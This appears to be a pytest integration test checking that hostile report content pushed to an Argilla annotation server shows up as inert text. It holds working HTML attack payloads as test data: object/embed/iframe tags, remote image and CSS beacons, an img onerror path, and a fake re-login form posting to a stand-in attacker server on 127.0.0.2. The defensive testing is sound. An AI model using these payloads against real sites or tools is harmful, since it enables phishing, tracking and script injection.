"""A hostile report pushed to the real Argilla stack shows annotators text, never HTML.

The report's claims and paragraphs, the repository's code and the judge's
reasoning carry ``<object>``, ``<embed>``, forms, CSS and remote images that
point at an "outside" address, and one cited file's path is itself an
``<img onerror>`` (shown in the ``citation`` text field, which Argilla sets as
HTML): an HTTP server on another loopback address
(127.0.0.2). The records are pushed with the default dataset definition
(Markdown fields) and with one that shows every value as a text field (which
Argilla sets as ``innerHTML``); the records fetched back over the API hold no
raw HTML element and no remote image, and Chromium, opening the record page
as an annotator, sends nothing to the outside address (README "Security").
"""

from __future__ import annotations

import threading
import uuid
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import argilla as rg
import pytest
import yaml
from annotate_factories import ROOT, Stack
from click.testing import CliRunner, Result
from markup_check import html_elements, unsafe_markup

from citecal.annotate._settings import RECORD_SOURCES, load_spec
from citecal.cli import cli
from citecal.models import EvalResult

pytestmark = [pytest.mark.integration, pytest.mark.timeout(900)]

PASSWORD = "test-password-1"
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]


class Outside:
    """An HTTP server on 127.0.0.2 standing in for an attacker's host: it records every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                body = b"<html><body><script>parent.postMessage('pwned','*')</script></body></html>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.url = f"http://127.0.0.2:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_files(tmp: Path, out: str) -> tuple[Path, Path]:
    """A repository and a report whose every claim carries markup aimed at ``out``."""
    repo = tmp / "repo"
    (repo / "src").mkdir(parents=True)
    (repo / "src" / "app.py").write_text(
        "def add(a, b):\n"
        f'    """Sum. <object data="{out}/code-object"></object> ```` """\n'
        "    return a + b\n"
    )
    evil = repo / "src" / "<img" / "src" / "onerror=alert(1)>.py"  # a path that is an <img>
    evil.parent.mkdir(parents=True)
    evil.write_text("def sub(a, b):\n    return a - b\n")
    report = tmp / "report.md"
    report.write_text(
        "# Notes\n\n"
        f'The `add` function returns a sum <object data="{out}/object" width=300 height=80>'
        "</object> [src/app.py:1-3].\n\n"
        f'<embed src="{out}/embed"> The `add` function adds two numbers [src/app.py:1-3].\n\n'
        f"![beacon]({out}/beacon.png) The `add` function takes `a` and `b` [src/app.py:1].\n\n"
        f'<img src="{out}/img.png"> <style>@import url({out}/style.css);</style> '
        "The `add` function returns `a + b` [src/app.py:3].\n\n"
        f'<form action="{out}/steal"><input type=password name=p><button>Sign in again</button>'
        "</form> The `add` function is defined in `app.py` [src/app.py:1-2].\n\n"
        f'<link rel=stylesheet href="{out}/link.css"> <iframe src="{out}/frame"></iframe> '
        f'<video src="{out}/video.mp4" autoplay></video> The `add` function has a docstring '
        "[src/app.py:2].\n\n"
        "The `sub` function returns a difference where `add` returns a sum "
        "[src/<img/src/onerror=alert(1)>.py:1-2].\n"
    )
    return report, repo


def judged(path: Path, out: str) -> Path:
    """The evaluation with an LLM judge's verdict whose reasoning is hostile too."""
    result = EvalResult.model_validate_json(path.read_text())
    reasoning = (
        f'Supported. <object data="{out}/judge-object"></object> ![j]({out}/judge.png) '
        f'<div style="background:url({out}/judge-css)">x</div>'
    )
    citations = [
        c.model_copy(
            update={
                "verdict": "supports",
                "confidence": "high",
                "method": "llm",
                "mode": "abstractive",
                "model": "gpt-4o-mini",
                "prompt_version": "v1:0a1b2c3d",
                "reasoning": reasoning,
            }
        )
        if c.valid
        else c
        for c in result.citations
    ]
    path.write_text(result.model_copy(update={"citations": citations}).model_dump_json())
    return path


def text_spec(tmp: Path) -> Path:
    """The default definition, but every record value shown as a text field (set as HTML)."""
    spec = load_spec().model_dump(mode="json", exclude_none=True)
    spec["fields"] = [
        {"name": s.replace("_", "-"), "source": s, "use_markdown": False, "required": False}
        for s in RECORD_SOURCES
    ]
    spec["fields"][0]["required"] = True  # Argilla needs one required field
    path = tmp / "all_text.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True))
    return path


@dataclass
class Env:
    stack: Stack
    owner: rg.Argilla
    workspace: str
    datasets: dict[str, str]  # kind -> dataset name
    annotator: str
    outside: Outside
    claims: int

    def cli(self, *args: str) -> Result:
        env = {"ARGILLA_API_URL": self.stack.url, "ARGILLA_API_KEY": self.stack.api_key}
        return CliRunner().invoke(cli, list(args), env=env)

    def records(self, kind: str) -> tuple[list[dict[str, Any]], dict[str, bool]]:
        """The records as the server holds them, and each field's use_markdown."""
        dataset = self.owner.datasets(self.datasets[kind], workspace=self.workspace)
        http = self.owner.api.http_client
        items = http.get(f"/api/v1/datasets/{dataset.id}/records", params={"limit": 100}).json()[
            "items"
        ]
        fields = http.get(f"/api/v1/datasets/{dataset.id}/fields").json()["items"]
        markdown = {f["name"]: bool(f["settings"].get("use_markdown")) for f in fields}
        return items, markdown


@pytest.fixture(scope="module")
def env(argilla_stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    tag = uuid.uuid4().hex[:8]
    tmp = tmp_path_factory.mktemp("hostile")
    outside = Outside()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        owner = rg.Argilla(api_url=argilla_stack.url, api_key=argilla_stack.api_key, retries=0)
        ws = rg.Workspace(name=f"test_ws_html_{tag}", client=owner).create()
    user = None
    try:
        name = f"test_annotator_html_{tag}"
        user = rg.User(username=name, password=PASSWORD, role="annotator", client=owner).create()
        user.add_to_workspace(ws)
        e = Env(argilla_stack, owner, ws.name, {}, name, outside, 0)
        report, repo = hostile_files(tmp, outside.url)
        out = tmp / "eval.json"
        res = e.cli(
            "eval", str(report), "--repo", str(repo), "--no-llm", "-f", "json", "-o", str(out)
        )  # fmt: skip
        assert res.exit_code == 0, res.output
        judged(out, outside.url)
        e.claims = sum(c.valid for c in EvalResult.model_validate_json(out.read_text()).citations)
        assert e.claims == 7
        for kind, extra in (("markdown", ()), ("text", ("--spec", str(text_spec(tmp))))):
            e.datasets[kind] = f"test_hostile_{kind}_{tag}"
            push = e.cli(
                "push", str(out), "--dataset", e.datasets[kind], "--workspace", ws.name,
                "--min-submitted", "1", *extra,
            )  # fmt: skip
            assert push.exit_code == 0, push.output
        yield e
    finally:
        outside.close()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for ds in ws.datasets:
                ds.delete()
            if user is not None:
                user.delete()
            ws.delete()


@pytest.mark.parametrize("kind", ["markdown", "text"])
def test_pushed_fields_hold_no_html_element_and_no_remote_image(env: Env, kind: str) -> None:
    items, markdown = env.records(kind)
    assert len(items) == env.claims
    problems = []
    for record in items:
        for name, text in record["fields"].items():
            if markdown[name]:
                problems += [f"{name}: {p}" for p in unsafe_markup(text)]
            else:
                problems += [f"{name}: <{t}>" for t in html_elements(text)]
    assert problems == []
    claims = [r["fields"].get("claim") for r in items]
    assert any("object data" in (c or "") for c in claims)  # the markup is there, as text


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["markdown", "text"])
def test_opening_the_record_sends_nothing_outside(
    env: Env, chromium: str, tmp_path: Path, kind: str
) -> None:
    from playwright.sync_api import sync_playwright

    dataset = env.owner.datasets(env.datasets[kind], workspace=env.workspace)
    argilla = urlsplit(env.stack.url).netloc
    left: list[str] = []
    dialogs: list[str] = []
    env.outside.requests.clear()
    shot = ROOT / "test-artifacts" / f"argilla_hostile_{kind}.png"
    shot.parent.mkdir(exist_ok=True)
    with sync_playwright() as p:
        ctx = p.chromium.launch_persistent_context(
            str(tmp_path / "profile"),
            executable_path=chromium,
            headless=True,
            args=CHROMIUM_FLAGS,
            viewport={"width": 1400, "height": 1600},
        )
        try:
            ctx.on(
                "request",
                lambda r: (
                    left.append(r.url)
                    if urlsplit(r.url).scheme in ("http", "https", "ws", "wss")
                    and urlsplit(r.url).netloc != argilla
                    else None
                ),
            )
            page = ctx.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(f"{env.stack.url}/sign-in", wait_until="networkidle")
            page.fill("input[name=Username]", env.annotator)
            page.fill("input[name=Password]", PASSWORD)
            page.click("button[type=submit]")
            page.wait_for_url(lambda u: "sign-in" not in u, timeout=30_000)
            page.wait_for_load_state("networkidle")
            own = {urlsplit(u).netloc for u in left}  # Argilla's own web fonts, before any record
            left.clear()
            page.goto(f"{env.stack.url}/dataset/{dataset.id}/annotation-mode")
            page.get_by_text("Does the cited code support the claim?").first.wait_for(
                timeout=30_000
            )
            page.wait_for_timeout(3000)  # let any object, image or style load
            body = page.inner_text("body")
            page.screenshot(path=str(shot), full_page=True)
        finally:
            ctx.close()
    # Whichever record the shuffled queue serves first (README "Estimates": pushes go out in a
    # seeded random order), every one names `add` and shows the outside address as text.
    assert "add" in body and f"{env.outside.url}/" in body  # the markup is shown, as text
    assert env.outside.requests == [], f"the outside server was asked for {env.outside.requests}"
    assert [u for u in left if urlsplit(u).netloc not in own] == [] and dialogs == []
    assert env.outside.url.split("//")[1] not in own
